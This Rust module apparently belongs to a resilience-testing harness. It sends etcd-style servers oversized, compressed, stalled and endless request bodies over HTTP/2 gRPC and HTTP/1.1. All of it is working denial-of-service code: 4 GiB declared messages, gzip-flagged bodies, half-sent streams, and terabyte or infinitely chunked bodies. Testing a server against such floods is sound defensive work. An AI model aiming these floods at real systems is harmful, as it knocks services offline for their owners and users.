//! Bodies that are larger than anybody needs, or say so, or never end.

use super::arms::Arms;
use super::http2::{DATA, END_HEADERS, HEADERS, Http2, frame, request};
use std::io;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

/// Just below the largest message that a member takes: 1.5 MiB and half a MiB around it.
const LARGE_BYTES: u32 = 1_400_000;

/// Streams of one attacker.
const STREAMS: u32 = 2000;

/// A call whose message has this prefix.
async fn begin(arms: &Arms, line: &mut Http2, stream: u32, prefix: &[u8]) -> io::Result<()> {
    let head = request(
        &arms.authority(),
        "POST",
        "/etcdserverpb.KV/Put",
        "application/grpc",
    );
    let mut both = frame(HEADERS, END_HEADERS, stream, &head);
    both.extend(frame(DATA, 0, stream, prefix));
    line.send(&both).await
}

/// Messages of 4 GiB, by what they say.
pub(super) async fn giant_messages(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    for stream in (1..2 * STREAMS).step_by(2) {
        arms.pace(1).await;
        begin(arms, &mut line, stream, &[0, 255, 255, 255, 255, 7, 7, 7]).await?;
    }
    Ok(())
}

/// Compressed messages, which nobody has agreed on: a small one may mean a giant.
pub(super) async fn gzipped(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    for stream in (1..2 * STREAMS).step_by(2) {
        arms.pace(1).await;
        begin(arms, &mut line, stream, &[1, 0, 0, 0, 3, 0x1f, 0x8b, 8]).await?;
    }
    Ok(())
}

/// Messages as large as they may be, of which nothing comes.
pub(super) async fn promised(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    let [a, b, c, d] = LARGE_BYTES.to_be_bytes();
    for stream in (1..2 * STREAMS).step_by(2) {
        arms.pace(1).await;
        begin(arms, &mut line, stream, &[0, a, b, c, d]).await?;
    }
    line.sit(arms).await
}

/// The same, of which all comes but the end.
pub(super) async fn unfinished(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    line.listen();
    let [a, b, c, d] = LARGE_BYTES.to_be_bytes();
    let part = frame(DATA, 0, 1, &[7; 16_000]);
    for stream in (1..2 * STREAMS).step_by(2) {
        begin(arms, &mut line, stream, &[0, a, b, c, d]).await?;
        for _ in 0..LARGE_BYTES / 16_000 {
            arms.pace(1).await;
            let mut part = part.clone();
            part[5..9].copy_from_slice(&stream.to_be_bytes());
            line.send(&part).await?;
        }
    }
    Ok(())
}

/// An HTTP/1.1 request with this head, and its body without end.
async fn endless(arms: &Arms, length: &str, before: &str, after: &str) -> io::Result<()> {
    let mut line = arms.sealed().await?;
    let head = format!(
        "POST /v3/kv/put HTTP/1.1\r\nHost: {}\r\n{length}\r\n\r\n",
        arms.authority()
    );
    line.write_all(head.as_bytes()).await?;
    let part = [before.as_bytes(), &[b'Q'; 16_384], after.as_bytes()].concat();
    let mut buffer = [0; 1024];
    let (mut read, mut write) = tokio::io::split(line);
    loop {
        arms.pace(1).await;
        tokio::select! {
            biased;
            // It has answered: that is a refusal.
            _ = read.read(&mut buffer) => return Err(io::ErrorKind::ConnectionReset.into()),
            sent = write.write_all(&part) => sent?,
        }
    }
}

/// A body of a terabyte, by its length.
pub(super) async fn giant_length(arms: &Arms) -> io::Result<()> {
    endless(arms, "Content-Length: 1099511627776", "", "").await
}

/// A body in chunks, without end.
pub(super) async fn giant_chunks(arms: &Arms) -> io::Result<()> {
    endless(arms, "Transfer-Encoding: chunked", "4000\r\n", "\r\n").await
}
